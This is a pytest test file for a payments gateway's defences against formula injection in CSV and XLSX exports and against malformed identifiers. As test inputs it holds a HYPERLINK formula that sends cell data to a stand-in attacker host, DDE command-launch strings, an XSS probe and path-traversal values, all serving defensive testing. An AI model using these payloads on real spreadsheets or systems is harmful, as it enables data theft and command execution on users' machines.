"""Formula injection in exports (CSV/XLSX), and identifiers refused at the edge.

A portal-chosen `procedure_code` such as `=HYPERLINK("http://evil.vn/?x="&A1,"Xem")` once
became the key and label of the online-share report, live in Excel. Now:
- identifiers from portals have documented shapes (docs/api.md): the payload is a 422;
- whatever is stored already (codes from before, names from catalog files, which are free
  text) is neutralised in every download: a leading `'` in CSV, a string cell in XLSX
  (never a formula), in the API's and the staff pages' downloads and the catalog export.
"""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import func, select

from payments import catalog
from payments.exports import FORMULA_STARTS, csv_cell
from payments.models import Agency, Payment, Procedure
from payments.services.gateway import Gateway
from tests.factories import AGENCY, ApiClient, make_api_client, payment_body
from tests.web.test_staff import make_user, sign_in

HYPERLINK = '=HYPERLINK("http://evil.vn/?x="&A1,"Xem")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
NAME = "=1+1 Cấp Phiếu lý lịch tư pháp"  # a catalog name: free text, stored as given
NOV = "from=2026-11-01&to=2026-11-30"
ASCII_STARTS = ("=", "+", "-", "@", "\t", "\r")


def post(http: FlaskClient, client: ApiClient, body: dict[str, Any]) -> Any:
    return http.post("/api/v1/payments", json=body, headers=client.headers)


def payments_count(gw: Gateway) -> int:
    with gw.sessions() as session:
        return session.scalar(select(func.count()).select_from(Payment)) or 0


# -- identifiers are refused at create ------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"procedure_code": HYPERLINK}, "procedure_code"),
        ({"reference": HYPERLINK}, "reference"),
        ({"agency_code": HYPERLINK}, "agency_code"),
        ({"reference": DDE}, "reference"),
        ({"procedure_code": PLUS}, "procedure_code"),
        ({"reference": MINUS}, "reference"),
        ({"reference": "-000.00.01.H32-261126-0001"}, "reference"),
        ({"reference": "000.00.01.H32 261126 0001"}, "reference"),  # no spaces inside
        ({"reference": "<script>alert(1)</script>"}, "reference"),
        ({"procedure_code": "1.000001\r\n=1+1"}, "procedure_code"),
        ({"procedure_code": "1.000001/../x"}, "procedure_code"),  # no slash in a code
        ({"reference": "R" * 129}, "reference"),
        ({"procedure_code": "1" * 65}, "procedure_code"),
        ({"metadata": {HYPERLINK: "x"}}, f"metadata.{HYPERLINK}.[key]"),
        ({"metadata": {"dossier": "a\tb"}}, "metadata.dossier"),
        ({"metadata": {"dossier": "a\r\nb"}}, "metadata.dossier"),
    ],
    ids=["hyperlink-procedure", "hyperlink-reference", "hyperlink-agency", "dde-reference",
         "plus-procedure", "minus-reference", "minus-dossier", "space", "html", "crlf",
         "slash-in-code", "long-reference", "long-procedure", "metadata-key",
         "metadata-tab", "metadata-crlf"],
)
def test_an_identifier_outside_its_shape_is_a_422_naming_the_field(
    http: FlaskClient, gw: Gateway, overrides: dict[str, Any], field: str
) -> None:
    client = make_api_client(gw)
    answer = post(http, client, payment_body(**overrides))

    assert answer.status_code == 422, answer.get_json()
    assert answer.mimetype == "application/problem+json"
    assert [e["field"] for e in answer.get_json()["errors"]] == [field]
    assert payments_count(gw) == 0


@pytest.mark.parametrize(
    ("overrides", "agencies"),
    [
        ({"reference": "000.00.01.H29-240115-0001"}, (AGENCY,)),  # Circular 01/2018
        ({"reference": "HS-2026/0001"}, (AGENCY,)),  # a legacy local number
        ({"reference": "240501_FG7ABCDEFGH2JKLMN"}, (AGENCY,)),
        ({"procedure_code": "2.000815.000.00.00.H55"}, (AGENCY,)),  # local (MaTTHCDP)
        ({"procedure_code": "2.000815.000.00.00.H55.02"}, (AGENCY,)),  # MaDVC, local
        ({"procedure_code": "1.013229.01"}, (AGENCY,)),  # MaDVC
        ({"procedure_code": "TTHC_LOCAL-7"}, (AGENCY,)),  # lenient on shape
        ({"agency_code": "H32.12"}, ("H32.12",)),  # Decision 20/2020
        ({"metadata": {"ma_ho_so_dvc": "+84 901 234 567", "note": "=not a formula here"}},
         (AGENCY,)),  # metadata values are text (neutralised if ever exported)
    ],
)
def test_the_documented_shapes_are_accepted(
    http: FlaskClient, gw: Gateway, overrides: dict[str, Any], agencies: tuple[str, ...]
) -> None:
    client = make_api_client(gw, agencies=agencies)
    answer = post(http, client, payment_body(**overrides))
    assert answer.status_code == 201, answer.get_json()


def test_the_shapes_are_in_the_openapi_document(http: FlaskClient) -> None:
    document = http.get("/api/v1/openapi.json").get_json()
    create = document["components"]["schemas"]["PaymentCreate"]["properties"]

    def patterns(schema: dict[str, Any]) -> set[str]:
        found = {schema["pattern"]} if "pattern" in schema else set()
        for option in schema.get("anyOf", []):
            found |= patterns(option)
        return found

    assert patterns(create["reference"]) == {r"^[A-Za-z0-9][A-Za-z0-9._/-]*$"}
    assert patterns(create["procedure_code"]) == {r"^[A-Za-z0-9][A-Za-z0-9._-]*$"}
    assert patterns(create["agency_code"]) == {r"^[A-Za-z0-9][A-Za-z0-9._-]*$"}
    assert create["metadata"]["propertyNames"]["pattern"] == r"^[A-Za-z0-9][A-Za-z0-9._-]*$"
    assert "patternProperties" not in create["metadata"]  # every key is checked, as enforced
    assert create["reference"]["maxLength"] == 128


# -- data already stored is neutralised in every download ----------------------------------


def _paid(client_id: str, procedure_code: str, online: bool, minute: int) -> Payment:
    moment = datetime(2026, 11, 10, 3, minute, tzinfo=UTC)
    return Payment(
        id=f"pay_{uuid.uuid4().hex[:20]}", client_id=client_id, agency_code=AGENCY,
        procedure_code=procedure_code, reference=f"R-{uuid.uuid4().hex[:8]}", amount=10_000,
        return_url="https://portal.example.gov.vn/x", status="succeeded", paid_at=moment,
        paid_provider="vnpay" if online else "counter",
        paid_channel="online" if online else "counter", expires_at=moment, created_at=moment,
        updated_at=moment, dossier_received_at=moment.date(),
    )


@pytest.fixture
def stored(gw: Gateway) -> ApiClient:
    """A catalog file whose names start with formula characters (names are free text), and
    a payment whose procedure code is the payload, stored before codes had a shape."""
    client = make_api_client(gw)
    catalog_file = (
        "agency_code,agency_name,procedure_code,procedure_name,online_payment,"
        "fee_name,fee_kind,fee_amount\r\n"
        f'{AGENCY},"{PLUS}",,,,,,\r\n'
        f'{AGENCY},,1.000001,"{NAME}",yes,"{MINUS}",fee,10000\r\n'
        f'{AGENCY},,1.000002,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",yes,'
        f'"{DDE}",charge,10000\r\n'
    )
    with gw.sessions.begin() as session:
        report = catalog.import_rows(session, catalog.read_csv(catalog_file))
    assert report.ok, report.lines()
    with gw.sessions.begin() as session:
        # as create recorded a code not in the catalog yet, before codes had a shape
        agency_id = session.scalar(select(Agency.id).where(Agency.code == AGENCY))
        legacy = Procedure(agency_id=agency_id, code=HYPERLINK, name="", catalogued=False,
                           online_payment_enabled=True)
        session.add(legacy)
        session.flush()
        old = _paid(client.id, HYPERLINK, True, 0)  # the legacy code: key and label
        old.procedure_id = legacy.id
        session.add_all([
            old,
            _paid(client.id, "1.000001", True, 1),
            _paid(client.id, "1.000002", False, 2),
        ])
    return client


def assert_csv_neutralised(data: bytes, payloads: set[str]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(ASCII_STARTS)]
    assert live == [], f"cells a spreadsheet would run: {live}"
    found = {cell[1:] for cell in cells if cell[1:] in payloads and cell.startswith("'")}
    assert found == payloads, f"missing neutralised cells: {payloads - found}"
    return rows


def assert_xlsx_has_no_formula(data: bytes, payloads: set[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(data))
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    found.add(cell.value)
    assert payloads <= found, f"missing cells: {payloads - found}"


def test_the_api_downloads_neutralise_stored_text(http: FlaskClient, stored: ApiClient) -> None:
    def get(path: str) -> bytes:
        answer = http.get(path, headers=stored.headers)
        assert answer.status_code == 200, answer.get_data(as_text=True)
        return answer.data

    by_procedure = f"/api/v1/reports/online-share?{NOV}&group_by=procedure"
    rows = assert_csv_neutralised(get(by_procedure + "&format=csv"), {HYPERLINK, NAME})
    legacy = next(r for r in rows if r[0] == "'" + HYPERLINK)
    assert legacy[1] == "'" + HYPERLINK  # key and label alike
    assert legacy[2:8] == ["1", "1", "0", "10000", "10000", "0"]  # numbers stay numbers
    assert_xlsx_has_no_formula(get(by_procedure + "&format=xlsx"), {HYPERLINK, NAME})

    by_agency = f"/api/v1/reports/online-share?{NOV}&group_by=agency"
    assert_csv_neutralised(get(by_agency + "&format=csv"), {PLUS})  # the agency's name
    book = get(by_agency + "&format=xlsx")
    assert_xlsx_has_no_formula(book, {PLUS, HYPERLINK, NAME})  # the agency sheet: procedures
    summary = load_workbook(io.BytesIO(book))["Tổng hợp"]
    assert [c.value for c in summary[2]][2:4] == [3, 2]
    assert isinstance(summary["C2"].value, int) and summary["C2"].data_type == "n"

    coverage = f"/api/v1/reports/coverage?{NOV}"
    assert_csv_neutralised(get(coverage + "&format=csv"), {PLUS, HYPERLINK})  # uncatalogued
    assert_xlsx_has_no_formula(get(coverage + "&format=xlsx"), {PLUS, NAME, HYPERLINK})


def test_the_staff_downloads_neutralise_stored_text(
    http: FlaskClient, gw: Gateway, stored: ApiClient
) -> None:
    make_user(gw, role="admin")
    assert sign_in(http).status_code == 303
    query = f"{NOV}&group_by=procedure&basis=paid_at&agency={AGENCY}"

    share = http.get(f"/staff/reports?{query}&download=online-share.csv")
    assert share.status_code == 200
    assert_csv_neutralised(share.data, {HYPERLINK, NAME})
    book = http.get(f"/staff/reports?{query}&download=online-share.xlsx")
    assert book.status_code == 200
    assert_xlsx_has_no_formula(book.data, {HYPERLINK, NAME})
    cover = http.get(f"/staff/reports?{NOV}&download=coverage.xlsx")
    assert cover.status_code == 200
    assert_xlsx_has_no_formula(cover.data, {PLUS, NAME, HYPERLINK})
    cover_csv = http.get(f"/staff/reports?{NOV}&download=coverage.csv")
    assert_csv_neutralised(cover_csv.data, {PLUS, HYPERLINK})


def test_the_catalog_export_neutralises_names(gw: Gateway, stored: ApiClient) -> None:
    with gw.sessions() as session:
        rows = catalog.export_rows(session)
    assert_csv_neutralised(catalog.to_csv(rows), {PLUS, NAME, HYPERLINK, MINUS, DDE})
    data = catalog.to_xlsx(rows)
    assert_xlsx_has_no_formula(data, {PLUS, NAME, HYPERLINK, MINUS, DDE})
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    amounts = [r[9].value for r in sheet.iter_rows(min_row=2) if r[9].value is not None]
    assert amounts == [10_000, 10_000] and all(isinstance(a, int) for a in amounts)


# -- the one rule ---------------------------------------------------------------------------


@pytest.mark.parametrize("start", [*ASCII_STARTS, "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_csv_cell_prefixes_every_formula_start(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"


def test_csv_cell_keeps_numbers_and_plain_text() -> None:
    assert csv_cell(-5) == -5 and csv_cell(0) == 0 and csv_cell(12.5) == 12.5
    assert csv_cell(None) == ""
    for text in ("2.000488", "Cấp Phiếu", "a=b", " =x", "total", "'quoted", ""):
        assert csv_cell(text) == text
